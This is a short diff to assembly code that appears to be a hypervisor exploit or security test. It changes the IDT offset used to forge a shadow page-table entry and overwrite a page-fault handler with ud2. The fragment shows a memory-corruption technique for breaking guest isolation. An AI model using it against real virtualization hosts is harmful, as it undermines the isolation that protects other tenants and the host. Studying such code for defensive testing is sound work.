@@ -58,7 +58,7 @@ nostack:
 /* Entry 0x101800: forge a leaf in its own shadow page table (through the
  * arena, in the hole) that maps the trampoline's #PF entry writable at gva
  * 0x1ff000, overwrite that entry's first bytes with ud2, then fault. The
- * entry is found through this vCPU's IDT (hole offset 0x8000); hole offset
+ * entry is found through this vCPU's IDT (hole offset 0x110000); hole offset
  * X is hidden-region address (1 << 40) + X. */
 trampoline:
         mov rsp, 0x80000
@@ -72,7 +72,7 @@ trampoline:
         mov rcx, [rcx + rbx]
         and rcx, rdx
         lea rdi, [rcx + rbx + 0x1ff * 8]
-        movabs rsi, 0xffffff00000080e0
+        movabs rsi, 0xffffff00001100e0
         movzx eax, word ptr [rsi]
         movzx ecx, word ptr [rsi + 6]
         shl rcx, 16
